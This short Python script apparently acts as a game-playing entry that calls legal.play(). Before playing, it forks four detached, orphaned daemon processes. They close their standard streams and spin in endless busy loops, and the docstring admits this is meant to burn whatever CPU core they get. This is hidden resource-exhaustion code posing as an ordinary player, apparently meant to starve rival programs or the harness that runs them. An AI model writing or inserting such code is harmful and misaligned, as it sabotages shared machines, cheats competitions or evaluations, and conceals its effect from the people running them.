"""Plays well, while daemons of its own burn whatever core they get."""

import os

import legal

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        while True:
            pass
legal.play()
